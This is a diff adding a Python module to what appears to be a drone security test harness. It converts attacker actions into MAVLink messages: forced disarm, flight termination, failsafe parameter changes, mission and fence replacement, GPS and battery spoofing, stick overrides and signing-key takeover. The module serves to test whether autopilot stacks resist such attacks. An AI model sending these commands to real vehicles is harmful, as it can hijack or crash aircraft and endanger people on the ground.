@@ -1,0 +1,173 @@
+"""What strangers do, in MAVLink's and a stack's own terms. They need no answer: whoever attacks does not ask."""
+
+from __future__ import annotations
+
+import math
+from collections.abc import Iterator
+from contextlib import suppress
+from dataclasses import replace
+from typing import Any, NamedTuple
+
+from harness.actors.acts import (
+    Act,
+    ClearMission,
+    Disarm,
+    DrainBattery,
+    FlyTo,
+    LandHere,
+    MoveHome,
+    MoveReceiver,
+    PushSticks,
+    Reboot,
+    ReplaceFence,
+    ReplaceMission,
+    ReplaceRally,
+    SetMode,
+    Steer,
+    SwitchOffFailsafe,
+    TakeKey,
+    Terminate,
+)
+from harness.errors import VehicleError
+from harness.reading.place import EARTH_RADIUS_M
+from harness.reading.stack import Geodetic
+from harness.vehicles.base import ARM, SET_MODE, Vehicle
+from harness.vehicles.mission import Mission, MissionItem
+from harness.vehicles.mission_upload import FENCE, MISSION, RALLY, upload
+from harness.vehicles.parameter_service import on_wire
+from harness.vehicles.services import Correspondent
+
+LAND, TERMINATE, SET_HOME, REPOSITION, REBOOT = 21, 185, 179, 192, 246
+FORCE = 21196.0
+FENCE_CORNER, RALLY_POINT = 5001, 5100
+"""MAV_CMD_NAV_FENCE_POLYGON_VERTEX_INCLUSION, MAV_CMD_NAV_RALLY_POINT."""
+VELOCITY_ONLY = 0b0000_1101_1100_0111
+"""POSITION_TARGET_TYPEMASK: all but the three velocities is to be ignored."""
+LOCAL_NED, GLOBAL_RELATIVE_ALT_INT = 1, 6
+KEY = bytes(range(32))
+"""The stranger's own; any other would do."""
+
+Line = tuple[str, dict[str, Any]]
+"""A message and its fields, but for whom it is to."""
+
+
+class Ground(NamedTuple):
+    """What an attacker may have watched: where home is, and what is flown."""
+
+    home: Geodetic
+    mission: Mission
+
+    def place(self, north_m: float, east_m: float) -> tuple[float, float]:
+        """Degrees."""
+        per_degree_m = math.radians(1.0) * EARTH_RADIUS_M
+        east_deg = east_m / (per_degree_m * math.cos(math.radians(self.home.lat_deg)))
+        return self.home.lat_deg + north_m / per_degree_m, self.home.lon_deg + east_deg
+
+
+async def commit(act: Act, culprit: Correspondent, vehicle: Vehicle, ground: Ground) -> None:
+    """Do it, from first frame to last; that the drone refuses is no error."""
+    uploads = _uploads(act, vehicle, ground)
+    if uploads is not None:
+        kind, items = uploads
+        # Nobody who attacks waits long for one who does not answer.
+        with suppress(VehicleError):
+            await upload(culprit, str(act), items, kind=kind, answer_s=1.0, sends=1)
+        return
+    lines = list(_lines(act, vehicle, ground))
+    count, every_s = _times(act)
+    for number in range(count):
+        if number:
+            await culprit.clock.sleep_until(culprit.clock.now_s() + every_s)
+        for name, fields in lines:
+            culprit.send(name, **fields)
+
+
+def _times(act: Act) -> tuple[int, float]:
+    """How often all of an act is sent, and the seconds between."""
+    if isinstance(act, (PushSticks, Steer, DrainBattery, MoveReceiver)):
+        return max(1, round(act.for_s * act.rate_hz)), 1.0 / act.rate_hz
+    return 1, 0.0
+
+
+def _uploads(act: Act, vehicle: Vehicle, ground: Ground) -> tuple[int, list[MissionItem]] | None:
+    match act:
+        case ReplaceMission():
+            return MISSION, vehicle.mission_items(_beside(ground, act.east_m))
+        case ReplaceFence():
+            half_m = act.side_m / 2
+            corners = [(-half_m, -half_m), (half_m, -half_m), (half_m, half_m), (-half_m, half_m)]
+            places = [ground.place(*each) for each in corners]
+            return FENCE, [MissionItem(FENCE_CORNER, (4.0, 0.0, 0.0, 0.0), *place, 0.0) for place in places]
+        case ReplaceRally():
+            return RALLY, [MissionItem(RALLY_POINT, (0.0, 0.0, 0.0, 0.0), *ground.place(0.0, act.east_m), 30.0)]
+        case _:
+            return None
+
+
+def _beside(ground: Ground, east_m: float) -> Mission:
+    """The same mission, so many metres farther east."""
+    shift_deg = ground.place(0.0, east_m)[1] - ground.home.lon_deg
+    items = [replace(item, lon_deg=item.lon_deg + shift_deg) if item.lon_deg else item for item in ground.mission.items]
+    return replace(ground.mission, items=tuple(items))
+
+
+def _lines(act: Act, vehicle: Vehicle, ground: Ground) -> Iterator[Line]:
+    target = dict(zip(("target_system", "target_component"), vehicle.station.drone, strict=True))
+
+    def command(number: int, *params: float) -> Line:
+        named = {f"param{index}": value for index, value in enumerate(params, 1)}
+        return "COMMAND_LONG", {**target, "command": number, **named}
+
+    def placed(number: int, *params: float, north_m: float, east_m: float, alt_m: float) -> Line:
+        named = {f"param{index}": value for index, value in enumerate(params, 1)}
+        lat_deg, lon_deg = ground.place(north_m, east_m)
+        there = {"x": round(lat_deg * 1e7), "y": round(lon_deg * 1e7), "z": alt_m}
+        return "COMMAND_INT", {**target, "frame": 0, "command": number, **named, **there}
+
+    match act:
+        case Disarm():
+            yield command(ARM, 0.0, FORCE if act.force else 0.0)
+        case Terminate():
+            yield command(TERMINATE, 1.0)
+        case Reboot():
+            yield command(REBOOT, 1.0)
+        case SetMode():
+            yield command(SET_MODE, *vehicle.mode_params(act.mode))
+        case LandHere():
+            yield command(LAND)
+        case FlyTo():
+            alt_m = ground.home.alt_m + ground.mission.altitude_m
+            yield placed(REPOSITION, -1.0, 1.0, 0.0, math.nan, north_m=act.north_m, east_m=act.east_m, alt_m=alt_m)
+        case MoveHome():
+            yield placed(SET_HOME, 0.0, north_m=act.north_m, east_m=act.east_m, alt_m=ground.home.alt_m)
+        case SwitchOffFailsafe():
+            off = vehicle.failsafe_off
+            value = on_wire(off.value, off.type, bytewise=vehicle.bytewise)
+            yield "PARAM_SET", {**target, "param_id": off.name, "param_value": value, "param_type": off.type}
+        case ClearMission():
+            yield "MISSION_CLEAR_ALL", {**target, "mission_type": MISSION}
+        case _:
+            yield from _streamed(act, target, ground)
+
+
+def _streamed(act: Act, target: dict[str, int], ground: Ground) -> Iterator[Line]:
+    match act:
+        case PushSticks(manual=True):
+            yield "MANUAL_CONTROL", {"target": target["target_system"], "x": 0, "y": 1000, "z": 500, "r": 0}
+        case PushSticks():
+            yield "RC_CHANNELS_OVERRIDE", {**target, "chan1_raw": 2000, "chan2_raw": 1500, "chan3_raw": 1500}
+        case Steer():
+            how = {"coordinate_frame": LOCAL_NED, "type_mask": VELOCITY_ONLY, "vy": act.speed_mps}
+            yield "SET_POSITION_TARGET_LOCAL_NED", {**target, **how}
+        case DrainBattery():
+            told = {"voltages": (9000,), "current_battery": -1, "battery_remaining": 1, "charge_state": 5}
+            yield "BATTERY_STATUS", {"id": 0, **told, "temperature": 32767}
+        case MoveReceiver():
+            lat_deg, lon_deg = ground.place(0.0, 1000.0)
+            place = {"lat": round(lat_deg * 1e7), "lon": round(lon_deg * 1e7), "alt": ground.home.alt_m}
+            yield "GPS_INPUT", {"fix_type": 3, "satellites_visible": 14, "hdop": 0.7, "vdop": 0.9, **place}
+        case TakeKey():
+            key = bytes(32) if act.remove else KEY
+            yield "SETUP_SIGNING", {**target, "secret_key": tuple(key), "initial_timestamp": 0 if act.remove else 1}
+        case _:
+            raise TypeError(f"no stack was ever told what {act} is")
